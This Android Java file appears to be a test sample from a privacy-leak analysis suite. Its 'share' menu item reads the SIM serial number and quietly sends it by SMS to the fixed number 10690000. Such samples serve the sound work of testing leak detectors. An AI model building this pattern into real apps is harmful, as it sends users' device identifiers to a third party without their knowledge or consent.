package cn.privlens.suite.menu_item_share;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.Menu;
import android.view.MenuItem;

public class Main extends Activity {
    private static final int SHARE = 1;
    private static final int CLOSE = 2;
    private String card;
    private String about;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        about = "demo 1.0";
    }

    @Override
    public boolean onCreateOptionsMenu(Menu menu) {
        menu.add(0, SHARE, 0, "share");
        menu.add(0, CLOSE, 1, "close");
        return true;
    }

    @Override
    public boolean onPrepareOptionsMenu(Menu menu) {
        card = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        menu.findItem(SHARE).setEnabled(card != null);
        return super.onPrepareOptionsMenu(menu);
    }

    @Override
    public boolean onOptionsItemSelected(MenuItem item) {
        switch (item.getItemId()) {
            case SHARE:
                SmsManager.getDefault().sendTextMessage("10690000", null, card, null, null);
                return true;
            case CLOSE:
                finish();
                return true;
            default:
                return super.onOptionsItemSelected(item);
        }
    }
}
